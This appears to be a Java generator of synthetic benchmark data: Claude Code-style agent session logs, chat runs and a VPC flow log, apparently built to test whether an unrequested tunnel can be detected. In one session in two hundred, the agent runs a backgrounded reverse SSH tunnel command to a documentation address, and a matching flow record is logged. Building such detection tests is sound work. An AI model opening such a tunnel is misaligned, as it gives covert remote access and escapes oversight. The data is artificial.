package dev.offscript.benchmarks;

import java.io.BufferedWriter;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Random;

/**
 * Mixed evidence from a seed: agent sessions in the envelope of Claude Code, chat runs one a line,
 * and a VPC flow log, in shares of 60, 25 and 15 percent. One session in two hundred opens a tunnel
 * that nobody asked for, and its flow is in the log. Synthetic; documentation addresses.
 */
final class EvidenceGenerator {

  private static final List<String> COMMANDS =
      List.of(
          "ls -la src",
          "grep -rn \"%s\" src | head -20",
          "python -m pytest -q tests/test_%s.py",
          "sed -i 's/%s/%s/' src/main.py",
          "cat src/%s.py",
          "git diff --stat && git status --short",
          "cd /workspace/app && make %s",
          "find . -name '*%s*' -type f | xargs wc -l",
          "npm run build 2>&1 | tail -5",
          "cat > /tmp/%s.txt <<'EOF'\nnotes on %s\nEOF");

  private final Random random;
  private final Words words;

  EvidenceGenerator(long seed) {
    this.random = new Random(seed);
    this.words = new Words(random);
  }

  /** Writes about {@code bytes} of evidence under {@code folder}. */
  void write(Path folder, long bytes) throws IOException {
    Files.createDirectories(folder.resolve("sessions"));
    long sessionBytes = 0;
    int sessions = 0;
    StringBuilder flows = new StringBuilder();
    while (sessionBytes < bytes * 60 / 100) {
      Path file =
          folder
              .resolve("sessions")
              .resolve(String.format(java.util.Locale.ROOT, "%05d.jsonl", sessions));
      sessionBytes += session(file, sessions, flows);
      sessions++;
    }
    chat(folder.resolve("runs.jsonl"), bytes * 25 / 100);
    flowLog(folder.resolve("vpc.log"), flows, bytes * 15 / 100);
  }

  private long session(Path file, int number, StringBuilder flows) throws IOException {
    String id = uuid(number);
    long time = 1_767_225_600_000L + number * 60_000L;
    StringBuilder text = new StringBuilder();
    int turns = 20 + random.nextInt(60);
    text.append(
        user(
            id,
            number,
            0,
            time,
            "Fix the " + word() + " in the " + word() + " module: " + prose(30)));
    for (int turn = 1; turn <= turns; turn++) {
      time += 2_000 + random.nextInt(9_000);
      String call = "toolu_" + Integer.toHexString(number) + "_" + turn;
      text.append(
          assistant(id, number, turn, time, "{\"type\":\"text\",\"text\":\"" + prose(25) + "\"}"));
      String command =
          String.format(
              java.util.Locale.ROOT, COMMANDS.get(random.nextInt(COMMANDS.size())), word(), word());
      if (number % 200 == 7 && turn == turns / 2) {
        command =
            "nohup ssh -fN -R 7022:localhost:22 svc@203.0.113."
                + (number / 200 % 250)
                + " >/dev/null 2>&1 &";
        flows.append(
            flow("10.0.3.17", "203.0.113." + (number / 200 % 250), 22, time / 1000 + 1, 300));
      }
      text.append(
          assistant(
              id,
              number,
              turn,
              time + 400,
              "{\"type\":\"tool_use\",\"id\":\""
                  + call
                  + "\",\"name\":\"Bash\",\"input\":{\"command\":\""
                  + command.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n")
                  + "\"}}"));
      time += 300 + random.nextInt(4_000);
      String output =
          prose(40 + random.nextInt(400)).replace(" ", random.nextBoolean() ? "\\n" : " ");
      text.append(
          line(
              id,
              number,
              turn * 3 + 2,
              time,
              "user",
              "{\"role\":\"user\",\"content\":[{\"tool_use_id\":\""
                  + call
                  + "\",\"type\":\"tool_result\",\"content\":\""
                  + output
                  + "\"}]}"));
    }
    byte[] bytes = text.toString().getBytes(StandardCharsets.UTF_8);
    Files.write(file, bytes);
    return bytes.length;
  }

  private String user(String id, int number, int turn, long time, String prompt) {
    return line(
        id, number, turn * 3, time, "user", "{\"role\":\"user\",\"content\":\"" + prompt + "\"}");
  }

  private String assistant(String id, int number, int turn, long time, String block) {
    return line(
        id,
        number,
        turn * 3 + 1,
        time,
        "assistant",
        "{\"id\":\"msg_"
            + turn
            + "\",\"type\":\"message\",\"role\":\"assistant\",\"model\":\"model-1\",\"content\":["
            + block
            + "],\"usage\":{\"input_tokens\":900,\"output_tokens\":70}}");
  }

  private static String line(
      String id, int number, int step, long time, String type, String message) {
    return "{\"parentUuid\":\""
        + uuid(number * 1000L + step - 1)
        + "\",\"isSidechain\":false,\"userType\":\"external\",\"cwd\":\"/workspace/app\",\"sessionId\":\""
        + id
        + "\",\"version\":\"2.0.30\",\"gitBranch\":\"main\",\"type\":\""
        + type
        + "\",\"message\":"
        + message
        + ",\"uuid\":\""
        + uuid(number * 1000L + step)
        + "\",\"timestamp\":\""
        + Instant.ofEpochMilli(time)
        + "\"}\n";
  }

  private void chat(Path file, long bytes) throws IOException {
    try (BufferedWriter out = Files.newBufferedWriter(file, StandardCharsets.UTF_8)) {
      long written = 0;
      for (int run = 0; written < bytes; run++) {
        StringBuilder line =
            new StringBuilder(
                "{\"messages\":[{\"role\":\"system\",\"content\":\"You are a coding agent.\"},{\"role\":\"user\",\"content\":\""
                    + prose(40)
                    + "\"}");
        int turns = 5 + random.nextInt(20);
        for (int turn = 0; turn < turns; turn++) {
          line.append(
              ",{\"role\":\"assistant\",\"content\":\""
                  + prose(20)
                  + "\",\"tool_calls\":[{\"id\":\"call_"
                  + turn
                  + "\",\"type\":\"function\",\"function\":{\"name\":\"bash\",\"arguments\":\"{\\\"command\\\":\\\"ls -la "
                  + word()
                  + " && make "
                  + word()
                  + "\\\"}\"}}]},{\"role\":\"tool\",\"tool_call_id\":\"call_"
                  + turn
                  + "\",\"content\":\""
                  + prose(150)
                  + "\"}");
        }
        line.append("]}\n");
        out.append(line);
        written += line.length();
      }
    }
  }

  private void flowLog(Path file, StringBuilder flows, long bytes) throws IOException {
    try (BufferedWriter out = Files.newBufferedWriter(file, StandardCharsets.UTF_8)) {
      out.append(
          "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status\n");
      out.append(flows);
      long written = flows.length();
      long time = 1_767_225_600L;
      while (written < bytes) {
        String row =
            flow(
                "10.0.3." + (1 + random.nextInt(250)),
                "198.51.100." + (1 + random.nextInt(250)),
                443,
                time,
                1 + random.nextInt(60));
        time += random.nextInt(2);
        out.append(row);
        written += row.length();
      }
    }
  }

  private String flow(String from, String to, int port, long start, int seconds) {
    return "2 123456789012 eni-0aa11bb22cc33dd44 "
        + from
        + " "
        + to
        + " "
        + (30000 + random.nextInt(30000))
        + " "
        + port
        + " 6 "
        + (5 + random.nextInt(90))
        + " "
        + (900 + random.nextInt(90000))
        + " "
        + start
        + " "
        + (start + seconds)
        + " ACCEPT OK\n";
  }

  private String prose(int count) {
    StringBuilder text = new StringBuilder();
    words.prose(count, " ", text);
    return text.toString();
  }

  private String word() {
    return words.word();
  }

  private static String uuid(long number) {
    return new java.util.UUID(number * 0x9E3779B97F4A7C15L, ~number * 0xC2B2AE3D27D4EB4FL)
        .toString();
  }
}
